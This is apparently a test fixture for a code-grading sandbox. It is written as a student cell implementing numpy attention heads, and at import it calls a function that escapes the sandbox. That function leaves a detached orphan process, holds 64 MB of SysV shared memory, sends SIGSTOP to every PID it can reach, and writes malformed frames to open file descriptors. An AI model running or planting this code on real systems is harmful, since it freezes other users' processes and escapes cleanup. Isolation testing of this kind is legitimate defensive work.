# expect: full
# Isolation class 4, cleanup that does not hold. A top-level cell leaves a process behind
# with setsid and a double fork, keeps SysV shared memory, tries to stop every process it
# can signal, and then writes a malformed frame on every pipe it holds, the results pipe
# included. That cell is skipped and the rest grades as usual; tests/test_isolation.py checks
# nothing of it survives, on the machine or in the next student's run.

import numpy as np

import os
import sys

BREACHES = []


def breach(what):
    BREACHES.append(what)
    print("BREACH:", what)


def softmax(S, axis=-1):
    shifted = S - S.max(axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / e.sum(axis=axis, keepdims=True)


def causal_mask(T):
    return np.triu(np.full((T, T), -np.inf), k=1)


def scaled_dot_product_attention(Q, K, V, mask=None, scale=None):
    if scale is None:
        scale = 1.0 / np.sqrt(Q.shape[-1])
    scores = (Q @ np.swapaxes(K, -1, -2)) * scale
    if mask is not None:
        scores = scores + mask
    weights = softmax(scores, axis=-1)
    return weights @ V, weights


def previous_token_head(n_vocab, T):
    d = n_vocab + T
    gain = 12.0 * np.sqrt(T)  # the grader divides the scores by sqrt(T)
    W_Q = np.zeros((d, T))
    W_Q[n_vocab + 1:, :-1] = gain * np.eye(T - 1)  # position i asks for position i - 1
    W_K = np.zeros((d, T))
    W_K[n_vocab:, :] = np.eye(T)  # a key says where it sits
    W_V = np.zeros((d, n_vocab))
    W_V[:n_vocab, :] = np.eye(n_vocab)  # a value carries the token
    return W_Q, W_K, W_V


def qk_circuit(W_Q, W_K):
    return W_Q @ W_K.T + len(BREACHES)  # right only while the sandbox held


def ov_circuit(W_V, W_O):
    return W_V @ W_O


def multi_head_attention(X, W_Q, W_K, W_V, W_O, n_heads, causal=False):
    d_head = W_Q.shape[1] // n_heads
    mask = causal_mask(X.shape[-2]) if causal else None
    per_head = []
    for h in range(n_heads):
        cols = slice(h * d_head, (h + 1) * d_head)
        o_h, _ = scaled_dot_product_attention(X @ W_Q[:, cols], X @ W_K[:, cols], X @ W_V[:, cols], mask=mask)
        per_head.append(o_h @ W_O[cols, :])
    per_head = np.stack(per_head)
    return per_head.sum(0), per_head


import ctypes
import signal
import time


def _escape():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()
    libc = ctypes.CDLL(None, use_errno=True)
    IPC_PRIVATE, IPC_CREAT = 0, 0o1000
    libc.shmat.restype = ctypes.c_void_p
    shm = libc.shmget(IPC_PRIVATE, 64 << 20, IPC_CREAT | 0o600)
    if shm >= 0:
        addr = libc.shmat(shm, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(addr, 1, 64 << 20)
    for pid in range(2, 4096):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
    for fd in range(3, 64):
        try:
            os.write(fd, b"Z" + (1 << 62).to_bytes(8, "big") + b"garbage")
        except OSError:
            pass


_escape()
